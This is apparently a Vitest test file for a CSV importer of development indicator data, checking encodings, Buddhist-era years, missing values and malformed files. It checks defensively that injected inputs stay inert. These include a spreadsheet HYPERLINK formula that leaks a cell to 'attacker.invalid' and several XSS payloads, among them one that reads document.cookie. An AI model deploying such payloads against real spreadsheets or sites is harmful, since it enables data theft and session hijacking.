import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { matchCountry } from '../countries/match';
import { MEMBERS } from '../countries/members';
import { toCsv } from './csv-export';
import { importFile, type ImportResult } from './import';
import type { Notice } from './notice';
import { parseTable } from './parse';
import { sniff } from './sniff';
import type { TidyRow } from './validate';

const root = path.resolve(process.cwd(), '../shared/fixtures/upload');
const present = existsSync(root);
const ALL_MEMBERS = MEMBERS.map((m) => m.iso3).sort();

const read = (dir: string, name: string) =>
	new Uint8Array(readFileSync(path.join(root, dir, name)));
const run = (dir: string, name: string): ImportResult => importFile(read(dir, name), name);
const codes = (notices: readonly Notice[], level?: Notice['level']) =>
	notices.filter((n) => !level || n.level === level).map((n) => n.code);
const key = (r: Pick<TidyRow, 'iso3' | 'year'> & { indicatorCode?: string; indicator?: string }) =>
	`${r.indicatorCode ?? r.indicator ?? ''}|${r.iso3}|${r.year}`;
const byKey = (rows: readonly TidyRow[]) => new Map(rows.map((r) => [key(r), r]));

/** Lines of a file decoded on its own (not through the importer), numbered from 1. */
function fileLines(dir: string, name: string, encoding = 'utf-8'): string[] {
	return new TextDecoder(encoding)
		.decode(read(dir, name))
		.replace(/^\uFEFF/, '')
		.split(/\r?\n/);
}

function expectNoReplacementChars(result: ImportResult) {
	const texts = [...result.rows.map((r) => r.indicator), ...result.columns.map((c) => c.header)];
	for (const text of texts) expect(text).not.toMatch(/\uFFFD/);
}

describe.skipIf(!present)('fixtures: every file gives what EXPECT.md / SOURCES.md describe', () => {
	it('covers every fixture file', () => {
		const files = [
			...readdirSync(path.join(root, 'bad')),
			...readdirSync(path.join(root, 'real'))
		].filter((f) => f.endsWith('.csv'));
		const tested = [
			'01_empty.csv',
			'02_header_only.csv',
			'03_binary_xlsx_renamed.csv',
			'05_windows874_thai.csv',
			'06_semicolon_decimal_comma.csv',
			'08_ragged_rows.csv',
			'12_missing_markers.csv',
			'13_formula_injection.csv',
			'14_html_in_names.csv',
			'17_buddhist_era_years_tidy.csv',
			'19_bom_sep_hint_crlf.csv',
			'22_unterminated_quote.csv',
			'owid_grapher_share-of-population-in-extreme-poverty.csv',
			'undp_hdr_Human Development Index (HDI).csv',
			'worldbank_country_bulk_API_THA_DS2_en_csv_v2_1219022.csv',
			'worldbank_databank_Data_Extract_From_World_Development_Indicators_Data.csv'
		];
		expect(files.sort()).toEqual(tested.sort());
	});

	describe('bad/', () => {
		it('01_empty.csv: refused, "file is empty"', () => {
			const result = run('bad', '01_empty.csv');
			expect(result.ok).toBe(false);
			expect(codes(result.notices, 'error')).toEqual(['file-empty']);
			expect(result.notices[0].message.toLowerCase()).toContain('file is empty');
		});

		it('02_header_only.csv: refused, "no data rows (only a header)"', () => {
			const result = run('bad', '02_header_only.csv');
			expect(result.ok).toBe(false);
			expect(codes(result.notices, 'error')).toEqual(['no-data-rows']);
			expect(result.notices.at(-1)?.message.toLowerCase()).toContain('no data rows (only a header');
		});

		it('03_binary_xlsx_renamed.csv: refused as an Excel/ZIP file, no garbage rows', () => {
			const result = run('bad', '03_binary_xlsx_renamed.csv');
			expect(result).toMatchObject({ ok: false, rows: [], columns: [], layout: null });
			expect(result.notices).toHaveLength(1);
			expect(result.notices[0].message.toLowerCase()).toContain(
				'not a text csv — looks like an excel/zip file; export as csv'
			);
		});

		it('05_windows874_thai.csv: Windows-874, all 11 Thai names, 2561→2018 and 2562→2019', () => {
			const result = run('bad', '05_windows874_thai.csv');
			expect(result).toMatchObject({ ok: true, encoding: 'windows-874' });
			expect(result.encodingAlternatives).toContain('windows-1252');
			expectNoReplacementChars(result);
			expect(result.report?.countries).toEqual(ALL_MEMBERS);
			const lines = fileLines('bad', '05_windows874_thai.csv', 'windows-874');
			expect(result.rows).toHaveLength(12);
			for (const row of result.rows) {
				const [name, be, value] = lines[row.line - 1].split(',');
				expect(matchCountry(name)?.iso3).toBe(row.iso3);
				expect(row.year).toBe(Number(be) - 543);
				expect(row.value).toBe(Number(value));
				expect(row.indicator).toBe('อัตราการเข้าเรียนระดับประถมศึกษา (ร้อยละ)');
			}
			expect(result.rows.find((r) => r.iso3 === 'MMR')?.year).toBe(2018);
			expect(codes(result.notices)).toContain('year-be-converted');
		});

		it('06_semicolon_decimal_comma.csv: ";" and decimal comma, 77,7 → 77.7', () => {
			const result = run('bad', '06_semicolon_decimal_comma.csv');
			expect(result.layout).toMatchObject({ delimiter: ';', decimal: ',', lineEnding: 'crlf' });
			expect(codes(result.notices)).toEqual(
				expect.arrayContaining(['delimiter-detected', 'decimal-comma'])
			);
			const lines = fileLines('bad', '06_semicolon_decimal_comma.csv');
			expect(result.rows).toHaveLength(7);
			for (const row of result.rows) {
				const [, code, year, value] = lines[row.line - 1].split(';');
				expect([row.iso3, row.year, row.value]).toEqual([
					code,
					Number(year),
					Number(value.replace(',', '.'))
				]);
			}
			expect(result.rows[0]).toMatchObject({
				iso3: 'THA',
				year: 2019,
				value: 77.7,
				indicator: 'Life expectancy at birth (years)'
			});
		});

		it('08_ragged_rows.csv: lines 3, 4 and 7 reported with their field counts, nothing shifted', () => {
			const result = run('bad', '08_ragged_rows.csv');
			const ragged = result.notices.filter((n) => n.code === 'ragged-row');
			expect(ragged.map((n) => [n.line, n.params?.found])).toEqual([
				[3, 3],
				[4, 5],
				[7, 1]
			]);
			expect(result.rows.map((r) => [r.line, r.iso3, r.year, r.value])).toEqual([
				[2, 'THA', 2019, 6.2],
				[5, 'VNM', 2020, 4.8],
				[6, 'KHM', 2019, 17.8]
			]);
			expect(result.report?.skipped.map((s) => s.line)).toEqual([3, 4, 7]);
			expect(result.rows.some((r) => r.iso3 === 'LAO' || r.value === 0.2)).toBe(false);
		});

		it('12_missing_markers.csv: every marker is missing (not 0, not text); 0 and 0.0 are real zeros', () => {
			const result = run('bad', '12_missing_markers.csv');
			expect(result.ok).toBe(true);
			expect(result.report).toMatchObject({ missingCells: 19, nonNumeric: [] });
			expect(codes(result.notices)).toContain('values-missing');
			const lines = fileLines('bad', '12_missing_markers.csv');
			const years = lines[0].split(',').slice(2).map(Number);
			const imported = byKey(result.rows);
			for (const line of lines.slice(1).filter(Boolean)) {
				const [, iso3, ...cells] = line.split(',');
				cells.forEach((cell, i) => {
					const row = imported.get(
						key({ indicator: '12_missing_markers', iso3: iso3 as TidyRow['iso3'], year: years[i] })
					);
					if (/^-?\d+(\.\d+)?$/.test(cell))
						expect(row?.value, `${iso3} ${years[i]}`).toBe(Number(cell));
					else expect(row, `${iso3} ${years[i]} "${cell}"`).toBeUndefined();
				});
			}
			expect(result.rows.filter((r) => r.value === 0).map((r) => [r.iso3, r.year])).toEqual([
				['TLS', 2021],
				['TLS', 2022]
			]);
		});

		it('13_formula_injection.csv: formulas stay inert text, =10*2 is not 20, exports neutralise them', () => {
			const result = run('bad', '13_formula_injection.csv');
			expect(result.ok).toBe(true);
			expect(result.rows.some((r) => r.iso3 === 'PHL' || r.value === 20)).toBe(false);
			expect(result.report?.nonNumeric).toEqual([
				{ line: 7, column: 'value', text: '=10*2', formula: true }
			]);
			expect(result.notices.find((n) => n.code === 'value-formula')).toMatchObject({
				line: 7,
				column: 'value'
			});
			expect(result.report?.mappedByCode).toEqual([
				{ label: '=1+1', code: 'SGP', iso3: 'SGP', rows: 1, lines: [6] }
			]);
			expect(result.rows.find((r) => r.iso3 === 'SGP')?.value).toBe(0);

			const text = new TextDecoder().decode(read('bad', '13_formula_injection.csv'));
			const table = parseTable(text, sniff(text));
			const objects = table.rows.map((r) =>
				Object.fromEntries(table.columns.map((c) => [c.name, r.cells[c.index]]))
			);
			const csv = toCsv(
				objects,
				table.columns.map((c) => c.name)
			);
			const cells = parseTable(csv, sniff(csv)).rows.flatMap((r) => r.cells);
			expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
			expect(cells).toContain(
				'\'=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for source")'
			);
		});

		it('14_html_in_names.csv: names kept as literal text, unknown-name warnings, ISO3 used to map', () => {
			const result = run('bad', '14_html_in_names.csv');
			expect(result.ok).toBe(true);
			expect(result.rows.map((r) => r.iso3)).toEqual(['THA', 'VNM', 'MMR', 'KHM', 'LAO', 'PHL']);
			expect(result.report?.mappedByCode.map((m) => m.label)).toEqual([
				'<img src=x onerror=alert(1)>',
				'<script>alert(document.cookie)</script>',
				'Cambodia</td><td>99',
				'javascript:alert(3)',
				"{{constructor.constructor('alert(4)')()}}"
			]);
			expect(result.rows[2].indicator).toBe('<b onmouseover=alert(2)>Poverty</b> headcount (%)');
			expect(codes(result.notices, 'warning')).toEqual(
				expect.arrayContaining(['country-mapped-by-code', 'markup-in-text'])
			);
		});

		it('17_buddhist_era_years_tidy.csv: 2558→2015 … 2564→2021, the lone 2022 kept, mixed era flagged', () => {
			const result = run('bad', '17_buddhist_era_years_tidy.csv');
			expect(result.ok).toBe(true);
			expect(result.rows.map((r) => [r.year, r.value])).toEqual([
				[2015, 7.2],
				[2016, 8.6],
				[2017, 7.9],
				[2018, 9.9],
				[2019, 6.2],
				[2020, 6.8],
				[2021, 6.3],
				[2022, 5.4]
			]);
			expect(result.report?.era).toMatchObject({ converted: 7, mixed: true });
			expect(codes(result.notices, 'warning')).toEqual(
				expect.arrayContaining(['year-be-converted', 'year-mixed-era'])
			);
			expect(result.rows.every((r) => r.year <= 2022)).toBe(true);
		});

		it('19_bom_sep_hint_crlf.csv: sep= honoured and skipped, BOM stripped, blank tail ignored', () => {
			const result = run('bad', '19_bom_sep_hint_crlf.csv');
			expect(result.ok).toBe(true);
			expect(result.columns[0].name).toBe('Country');
			expect(result.layout).toMatchObject({
				sepHint: true,
				delimiter: ';',
				decimal: ',',
				headerLine: 2
			});
			expect(result.rows.map((r) => [r.iso3, r.value])).toEqual([
				['SGP', 0],
				['IDN', 10.2]
			]);
			expect(codes(result.notices, 'warning')).toEqual([]);
			expect(codes(result.notices, 'error')).toEqual([]);
		});

		it('22_unterminated_quote.csv: refused, naming line 3', () => {
			const result = run('bad', '22_unterminated_quote.csv');
			expect(result.ok).toBe(false);
			expect(result.rows).toEqual([]);
			expect(result.notices.find((n) => n.level === 'error')).toMatchObject({
				code: 'unterminated-quote',
				line: 3,
				column: 'note'
			});
		});

		it.skip('gen_big_tidy.js (200 MB) is generated on demand only; importFile refuses > 100 MB (see import.test.ts)', () => {});
	});

	describe('real/', () => {
		it('World Bank bulk (THA): preamble skipped, every value equals its cell', () => {
			const name = 'worldbank_country_bulk_API_THA_DS2_en_csv_v2_1219022.csv';
			const result = run('real', name);
			expect(result).toMatchObject({ ok: true, encoding: 'utf-8', shape: 'wide' });
			expect(result.layout).toMatchObject({
				headerLine: 5,
				dataStartLine: 6,
				footerStartLine: null
			});
			expect(result.notices.find((n) => n.code === 'preamble-skipped')).toMatchObject({
				params: { from: 1, to: 4 }
			});
			expect(result.report).toMatchObject({ rowsRead: 1431, skipped: [], countries: ['THA'] });
			expect(result.columns.at(-1)).toMatchObject({ header: '', ignorable: true });

			const lines = fileLines('real', name);
			const years = lines[4].slice(1, -2).split('","').slice(4).map(Number);
			const imported = byKey(result.rows);
			let checked = 0;
			const mismatches: string[] = [];
			for (let n = 6; n <= lines.length; n++) {
				if (!lines[n - 1]) continue;
				const cells = lines[n - 1].slice(1, -2).split('","');
				const [country, iso3, , indicatorCode] = cells;
				if (country !== 'Thailand' || iso3 !== 'THA')
					mismatches.push(`line ${n}: ${country} ${iso3}`);
				cells.slice(4).forEach((cell, i) => {
					const row = imported.get(key({ indicatorCode, iso3: 'THA', year: years[i] }));
					const expected = cell === '' ? undefined : { value: Number(cell), line: n };
					const actual = row && { value: row.value, line: row.line };
					if (JSON.stringify(actual) !== JSON.stringify(expected)) {
						mismatches.push(
							`line ${n} ${indicatorCode} ${years[i]}: ${JSON.stringify(actual)} ≠ "${cell}"`
						);
					}
					if (expected) checked++;
				});
			}
			expect(mismatches).toEqual([]);
			expect(checked).toBe(result.rows.length);
			const agri = result.rows.find((r) => r.indicatorCode === 'AG.LND.AGRI.ZS' && r.year === 1961);
			expect(agri).toMatchObject({
				indicator: 'Agricultural land (% of land area)',
				value: 22.8092152909628
			});
		});

		it('DataBank: TMP → TLS, footer is not data, ".." is missing, aggregates unmatched', () => {
			const name = 'worldbank_databank_Data_Extract_From_World_Development_Indicators_Data.csv';
			const result = run('real', name);
			expect(result).toMatchObject({ ok: true, shape: 'wide' });
			expect(result.layout?.footerStartLine).toBe(498);
			expect(result.report?.rowsRead).toBe(496);
			expect(result.report?.skipped.every((s) => s.line < 498)).toBe(true);
			expect(result.report?.countries).toEqual(ALL_MEMBERS);
			const unmatched = new Map(result.report?.unmatchedCountries.map((u) => [u.label, u.kind]));
			expect(unmatched.get('East Asia & Pacific (all income levels)')).toBe('aggregate');
			expect(unmatched.get('Arab World')).toBe('aggregate');
			expect(unmatched.get('World')).toBe('aggregate');
			expect(unmatched.get('Andorra')).toBe('unknown');

			const lines = fileLines('real', name);
			const years = lines[0]
				.split(',')
				.slice(4)
				.map((h) => Number(h.slice(0, 4)));
			const imported = byKey(result.rows);
			let missing = 0;
			let values = 0;
			for (let n = 2; n < 498; n++) {
				const cells = lines[n - 1].split(',');
				const member = matchCountry(cells[1]);
				if (!member || lines[n - 1].includes('"')) continue;
				if (cells[1] === 'TMP') expect(member.iso3).toBe('TLS');
				cells.slice(4).forEach((cell, i) => {
					const row = imported.get(
						key({ indicatorCode: cells[3], iso3: member.iso3, year: years[i] })
					);
					if (cell === '..') {
						missing++;
						expect(row).toBeUndefined();
					} else {
						values++;
						expect(row?.value).toBe(Number(cell));
					}
				});
			}
			expect(values).toBe(result.rows.length);
			expect(result.report?.missingMarkers['..']).toBe(missing);
			expect(result.rows.filter((r) => r.iso3 === 'TLS').length).toBeGreaterThan(0);
			expect(
				result.rows.find(
					(r) => r.iso3 === 'TLS' && r.indicatorCode === 'NY.GDP.MKTP.CD' && r.year === 2000
				)?.value
			).toBe(368000000);
		});

		it('UNDP HDI (Windows-1252): names matched, Côte d’Ivoire decoded, spacer columns ignored', () => {
			const name = 'undp_hdr_Human Development Index (HDI).csv';
			const result = run('real', name);
			expect(result).toMatchObject({ ok: true, encoding: 'windows-1252', shape: 'wide' });
			expectNoReplacementChars(result);
			expect(result.report?.countries).toEqual(ALL_MEMBERS);
			expect(result.report?.unmatchedCountries.map((u) => u.label)).toContain("Côte d'Ivoire");
			expect(result.columns.filter((c) => c.ignorable)).toHaveLength(27);
			expect(result.mapping?.yearColumns?.map((y) => y.year)).toEqual(
				Array.from({ length: 28 }, (_, i) => 1990 + i)
			);
			expect(result.notices.find((n) => n.code === 'unused-columns')?.message).toContain(
				'HDI Rank (2017)'
			);
			expect(result.rows.find((r) => r.iso3 === 'VNM' && r.year === 2017)?.value).toBe(0.694);

			const lines = fileLines('real', name, 'windows-1252');
			const header = lines[0].split(',');
			const imported = byKey(result.rows);
			let values = 0;
			for (const [n, line] of lines.entries()) {
				const cells = line.split(',');
				const member = n > 0 && !line.includes('"') ? matchCountry(cells[1] ?? '') : null;
				if (!member) continue;
				cells.forEach((cell, i) => {
					if (i < 2 || header[i] === '') return;
					const row = imported.get(
						key({
							indicator: 'undp_hdr_Human Development Index (HDI)',
							iso3: member.iso3,
							year: Number(header[i])
						})
					);
					if (cell === '') expect(row).toBeUndefined();
					else {
						values++;
						expect(row?.value).toBe(Number(cell));
						expect(row?.line).toBe(n + 1);
					}
				});
			}
			expect(values).toBe(result.rows.length);
		});

		it('OWID: Indonesia (urban) unmatched, Laos → LAO, East Timor → TLS, zeros kept', () => {
			const name = 'owid_grapher_share-of-population-in-extreme-poverty.csv';
			const result = run('real', name);
			expect(result).toMatchObject({ ok: true, shape: 'long' });
			expect(result.mapping).toMatchObject({ country: 0, countryCode: 1, year: 2, value: 3 });
			const unmatched = new Map(result.report?.unmatchedCountries.map((u) => [u.label, u]));
			expect(unmatched.get('Indonesia (urban)')).toMatchObject({ kind: 'subnational', rows: 31 });
			expect(unmatched.get('Indonesia (rural)')).toMatchObject({ kind: 'subnational', rows: 31 });
			expect(unmatched.get('East Asia and Pacific (PIP)')?.kind).toBe('aggregate');
			expect(unmatched.get('World')?.kind).toBe('aggregate');
			expect(result.report?.countries).toEqual([
				'IDN',
				'LAO',
				'MMR',
				'MYS',
				'PHL',
				'THA',
				'TLS',
				'VNM'
			]);
			expect(result.rows.find((r) => r.iso3 === 'MYS' && r.year === 2021)?.value).toBe(0);

			const lines = fileLines('real', name);
			let values = 0;
			const imported = byKey(result.rows);
			for (const [n, line] of lines.entries()) {
				const [entity, , year, value] = line.split(',');
				const member = n > 0 ? matchCountry(entity ?? '') : null;
				if (!member) continue;
				if (entity === 'Laos') expect(member.iso3).toBe('LAO');
				if (entity === 'East Timor') expect(member.iso3).toBe('TLS');
				values++;
				expect(
					imported.get(
						key({
							indicator: '$2.15 a day - Share of population in poverty',
							iso3: member.iso3,
							year: Number(year)
						})
					)
				).toMatchObject({
					value: Number(value),
					line: n + 1
				});
			}
			expect(values).toBe(result.rows.length);
			expect(result.report?.rowsRead).toBe(lines.length - 1);
		});
	});
});

describe.skipIf(present)('fixtures', () => {
	it.skip('../shared/fixtures/upload not found: fixture tests skipped', () => {});
});
